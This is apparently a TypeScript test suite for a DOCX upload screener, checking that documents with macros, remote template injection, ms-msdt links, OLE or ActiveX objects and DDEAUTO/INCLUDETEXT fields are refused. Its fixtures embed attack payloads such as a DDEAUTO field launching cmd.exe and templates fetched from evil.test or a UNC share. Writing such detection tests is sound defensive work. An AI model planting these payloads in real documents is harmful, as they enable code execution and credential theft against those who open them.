import { makeZip } from '@portal/test-kit';
import { problemOfDocx } from './docx';

const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const link = (kind: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="a" Type="${kinds}/${kind}" Target="${target}"${mode}/></Relationships>`;
const text = (content: string) => `<w:document xmlns:w="w"><w:body>${content}</w:body></w:document>`;
const code = (...parts: string[]) =>
  parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join('');
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const field = (...parts: string[]) => mark('begin') + code(...parts) + mark('separate') + mark('end');

const document = { '[Content_Types].xml': '<Types/>', 'word/document.xml': text('') };
const docx = (parts: Record<string, string> = {}) => makeZip({ ...document, ...parts });
const withText = (content: string) => docx({ 'word/document.xml': text(content) });
const withLink = (content: string) => docx({ 'word/_rels/settings.xml.rels': content });

it('refuses a text whose main part has the name of something else', () => {
  const kind = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const list = `<Types><Override PartName="/word/a.png" ContentType="${kind}"/></Types>`;
  expect(problemOfDocx(docx({ '[Content_Types].xml': list, 'word/a.png': text('') }))).toBe('other');
});

describe('a text with macros', () => {
  it.each<[string, Buffer]>([
    ['programs beside it', docx({ 'word/vbaProject.bin': 'x' })],
    [
      'programs under another name',
      docx({ '[Content_Types].xml': '<Override ContentType="application/vnd.ms-office.vbaProject"/>' }),
    ],
    [
      'a main part that says so',
      docx({ '[Content_Types].xml': '<Override ContentType="x.document.macroEnabled.main+xml"/>' }),
    ],
    ['a link to programs', withLink(link('vbaProject', 'a.bin', ''))],
  ])('is refused: %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBe('macros');
  });
});

describe('a text that takes in something else', () => {
  it.each<[string, Buffer]>([
    ['a template of another machine', withLink(link('attachedTemplate', 'https://evil.test/a.dotm'))],
    ['a template of a share', withLink(link('attachedTemplate', 'file:///\\\\evil.test\\share\\a.dotm'))],
    ['a template of a share by its short name', withLink(link('attachedTemplate', '\\\\evil.test\\a.dotm'))],
    ['a picture of another machine', withLink(link('image', 'https://evil.test/a.png'))],
    ['a frame', withLink(link('frame', 'https://evil.test/'))],
    ['a link that starts a program', withLink(link('hyperlink', 'ms-msdt:/id PCWDiagnostic'))],
    ['a link to a share', withLink(link('hyperlink', '\\\\evil.test\\a.docx'))],
    ['a link without its mode', withLink(link('image', 'https://evil.test/a.png', ''))],
    ['an object of another program', withLink(link('oleObject', 'embeddings/a.bin', ''))],
    ['a page within the text', withLink(link('aFChunk', 'a.html', ''))],
    [
      'an object under another name',
      docx({
        '[Content_Types].xml':
          '<Override ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
      }),
    ],
    ['a packed object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a packed file', docx({ 'word/embeddings/Microsoft_Word_Document.docx': 'x' })],
    ['a control', docx({ 'word/activeX/activeX1.xml': '<a/>' })],
    ['a field in a section of plain signs', withText(field('<![CDATA[DDEAUTO c:\\\\a.exe]]>'))],
    [
      'a field that starts a program',
      withText(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    ],
    ['a field in pieces', withText(field('DD', 'EAU', 'TO cmd'))],
    ['a field in small letters', withText(field(' dde Excel a'))],
    ['a short field', withText('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.test/a&quot; "/>')],
    [
      'a field within a field',
      withText(mark('begin') + code('IF ') + field('INCLUDEPICTURE "https://evil.test"') + mark('end')),
    ],
    [
      'a field whose name is made by another',
      withText(mark('begin') + field('QUOTE 68 68 69') + code(' ') + mark('end')),
    ],
    ['a field without marks', withText(code('LINK Excel.Sheet.8'))],
    ['a field in a heading', docx({ 'word/header1.xml': text(field('DDE a b')) })],
    [
      'an object in the text',
      withText('<w:object><o:OLEObject Type="Embed" r:id="a" xmlns:o="o" xmlns:r="r"/></w:object>'),
    ],
    ['a field in wide letters', docx({ 'word/header1.xml': `\ufeff${text(field('DDE a b'))}` })],
  ])('is refused: %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBe('linked');
  });

  it('is refused where two parts have one name', () => {
    const bytes = docx({ 'word/a.xml': '<a/>', 'word/A.xml': '<a/>' });
    expect(problemOfDocx(bytes)).toBe('other');
  });
});

describe('a text that only shows itself', () => {
  it.each<[string, Buffer]>([
    ['links to pages', withLink(link('hyperlink', 'https://example.org/a?b=c'))],
    ['begins a mail', withLink(link('hyperlink', 'mailto:a@example.org'))],
    ['links within itself', withLink(link('hyperlink', '#chapter'))],
    ['links to a file of its writer', withLink(link('hyperlink', 'file:///C:\\Users\\marie\\cv.docx'))],
    ['has a template by its name', withLink(link('attachedTemplate', 'Normal.dotm'))],
    [
      'has a template of its writer',
      withLink(link('attachedTemplate', 'file:///C:\\Users\\marie\\Normal.dotm')),
    ],
    ['has a picture', withLink(link('image', 'media/image1.png', ''))],
    ['has a part by its whole path', withLink(link('styles', '/word/styles.xml', ''))],
    ['has a chart with its sheet', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'x' })],
    ['counts its pages', withText(`${field('PAGE')}${field(' TOC ')}<w:fldSimple w:instr="NUMPAGES"/>`)],
    ['writes about fields', withText('<w:t>DDEAUTO cmd.exe, INCLUDETEXT</w:t>')],
  ])('is taken: it %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBeUndefined();
  });
});
